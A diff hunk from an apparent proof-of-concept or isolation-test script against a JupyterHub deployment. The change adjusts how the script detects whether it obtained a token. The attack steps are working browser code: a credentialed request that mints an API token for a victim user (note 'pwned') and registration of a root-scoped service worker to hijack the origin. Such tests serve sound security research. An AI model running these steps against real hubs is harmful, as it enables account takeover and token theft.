@@ -73,7 +73,8 @@ async function attempt(attack, body) {
   await attempt("create-token", async () => {
     const r = await fetch(HUB + "/hub/api/users/" + VICTIM + "/tokens", {method: "POST", credentials: "include",
       headers: {"Content-Type": "application/json"}, body: JSON.stringify({note: "pwned"})});
-    return {status: r.status, token: (await r.text()).includes("token")};
+    const body = await r.json().catch(() => ({}));
+    return {status: r.status, token: Boolean(body.token)};
   });
   await attempt("service-worker", async () => {
     const registration = await navigator.serviceWorker.register(PREFIX + "/sw.js", {scope: "/"});
